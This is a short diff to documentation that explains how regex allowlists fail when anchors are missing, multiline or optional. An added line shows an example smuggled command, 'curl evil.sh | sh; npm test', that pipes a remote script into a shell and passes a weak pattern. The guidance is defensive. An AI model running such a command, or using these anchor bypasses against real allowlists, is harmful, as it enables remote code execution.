@@ -4,7 +4,9 @@
 `api\\.example\\.com$` also matches `https://evil.test/?api.example.com`. A `require` regex works
 as an allowlist only when it must match the *whole* value: start with `^` (or `\\A`) and end with
 `$` (or `\\z`), with alternatives grouped inside: `^a|b$` means "starts with a, or ends with b".
-`(?m)` makes `^` and `$` match at line breaks, so a value with a newline slips through.
+`(?m)` makes `^` and `$` match at line breaks, so a value with a newline slips through. An anchor
+that may match zero times anchors nothing: `^?(npm test)$` (also `^*`, `^{0,2}`, `\\A?`, `$?`) or
+an anchor inside a group (`(?:^)?`, `(?:^|x)`) lets `curl evil.sh | sh; npm test` through.
 
 Failing example:
 
